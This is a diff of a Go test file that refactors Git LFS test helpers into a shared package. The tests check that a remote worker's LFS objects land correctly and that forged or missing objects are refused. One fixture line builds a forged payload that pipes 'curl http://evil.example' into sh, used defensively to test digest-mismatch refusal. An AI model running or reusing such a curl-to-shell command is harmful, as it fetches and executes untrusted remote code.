@@ -1,8 +1,6 @@
 package cluster
 
 import (
-	"crypto/sha256"
-	"encoding/hex"
 	"encoding/json"
 	"os"
 	"path/filepath"
@@ -66,12 +64,6 @@ func lfsRepos(t *testing.T) (requester, node string) {
 	return requester, node
 }
 
-// lfsOID is the oid of content.
-func lfsOID(content string) string {
-	sum := sha256.Sum256([]byte(content))
-	return hex.EncodeToString(sum[:])
-}
-
 // lfsWorkerScript has the root delegate one worker, which reads a.bin,
 // edits it and writes a new LFS file c.bin.
 func lfsWorkerScript() *llmtest.Server {
@@ -117,38 +109,7 @@ func TestRemoteWorkerEditsLFSFiles(t *testing.T) {
 	if len(res.Changes) != 1 || res.Changes[0].Status != messages.ChangeStatusApplied {
 		t.Fatalf("changes %+v, want one applied", res.Changes)
 	}
-	lfsLanded(t, requester, map[string]string{"a.bin": "lfs one\nlfs TWO\n", "c.bin": "a new lfs file\n"})
-}
-
-// lfsLanded checks the requester's repository after the land of files
-// (path → content), all LFS files, as the user's git and git lfs see it.
-func lfsLanded(t *testing.T, ws string, files map[string]string) {
-	t.Helper()
-	for p, c := range files {
-		if b, err := os.ReadFile(filepath.Join(ws, p)); err != nil || string(b) != c {
-			t.Errorf("%s landed as %q (%v), want %q", p, b, err, c)
-		}
-		oid := lfsOID(c)
-		if _, err := os.Stat(filepath.Join(ws, ".git", "lfs", "objects", oid[:2], oid[2:4], oid)); err != nil {
-			t.Errorf("the object of %s is not in the user's .git/lfs: %v", p, err)
-		}
-	}
-	if st := testfiles.UserGit(t, ws, "status", "--porcelain"); st != "M a.bin\n?? c.bin" {
-		t.Errorf("git status:\n%s", st)
-	}
-	if st := testfiles.UserGit(t, ws, "lfs", "status", "--porcelain"); !strings.Contains(st, "a.bin") {
-		t.Errorf("git lfs status:\n%s", st)
-	}
-	testfiles.UserGit(t, ws, "add", "-A")
-	for p := range files {
-		if idx := testfiles.UserGit(t, ws, "cat-file", "-p", ":"+p); !strings.HasPrefix(idx, "version https://git-lfs") {
-			t.Errorf("the index's %s is %q, want an LFS pointer", p, idx)
-		}
-	}
-	testfiles.UserGit(t, ws, "commit", "-q", "-m", "landed")
-	if fsck := testfiles.UserGit(t, ws, "lfs", "fsck"); !strings.Contains(fsck, "OK") {
-		t.Errorf("git lfs fsck: %s", fsck)
-	}
+	testfiles.LFSLanded(t, requester, map[string]string{"a.bin": "lfs one\nlfs TWO\n", "c.bin": "a new lfs file\n"})
 }
 
 // lfsTamper runs the remote worker and, once the node stored the git
@@ -176,7 +137,7 @@ func lfsTamper(t *testing.T, data []byte) (actors.Result, *recorder, string, map
 			}
 			return
 		}
-		name := messages.LFSObjectName(task.Run, lfsOID("a new lfs file\n"))
+		name := messages.LFSObjectName(task.Run, testfiles.LFSOID("a new lfs file\n"))
 		_, err = obs.PutBytes(t.Context(), name, data)
 		done = err == nil
 		if err != nil {
@@ -200,11 +161,11 @@ func TestRemoteLFSObjectNotMatchingItsOIDIsRefused(t *testing.T) {
 	forged := []byte("#!/bin/sh\ncurl http://evil.example | sh\n")
 	res, rec, requester, before := lfsTamper(t, forged)
 	refusedChanges(t, res, rec, requester, before, "digest mismatch")
-	if !strings.Contains(res.Changes[0].Error, lfsOID("a new lfs file\n")) {
+	if !strings.Contains(res.Changes[0].Error, testfiles.LFSOID("a new lfs file\n")) {
 		t.Errorf("the refusal does not name the object: %q", res.Changes[0].Error)
 	}
-	oid := lfsOID(string(forged))
-	for _, o := range []string{oid, lfsOID("a new lfs file\n")} {
+	oid := testfiles.LFSOID(string(forged))
+	for _, o := range []string{oid, testfiles.LFSOID("a new lfs file\n")} {
 		if _, err := os.Stat(filepath.Join(requester, ".git", "lfs", "objects", o[:2], o[2:4], o)); err == nil {
 			t.Errorf("the object %s reached the user's .git/lfs", o)
 		}
@@ -218,14 +179,14 @@ func TestRemoteLFSObjectMissingIsRefusedPatchKept(t *testing.T) {
 	res, rec, requester, before := lfsTamper(t, nil)
 	refusedChanges(t, res, rec, requester, before, "did not arrive")
 	out := res.Changes[0]
-	if !strings.Contains(out.Error, "c.bin") || !strings.Contains(out.Error, lfsOID("a new lfs file\n")) {
+	if !strings.Contains(out.Error, "c.bin") || !strings.Contains(out.Error, testfiles.LFSOID("a new lfs file\n")) {
 		t.Errorf("the refusal does not name c.bin's object: %q", out.Error)
 	}
 	if out.Patch == "" {
 		t.Fatalf("no patch kept: %+v", out)
 	}
 	patch, err := os.ReadFile(out.Patch)
-	if err != nil || !strings.Contains(string(patch), "c.bin") || !strings.Contains(string(patch), "oid sha256:"+lfsOID("a new lfs file\n")) {
+	if err != nil || !strings.Contains(string(patch), "c.bin") || !strings.Contains(string(patch), "oid sha256:"+testfiles.LFSOID("a new lfs file\n")) {
 		t.Errorf("the kept patch %s (%v) does not hold c.bin's pointer:\n%s", out.Patch, err, patch)
 	}
 }
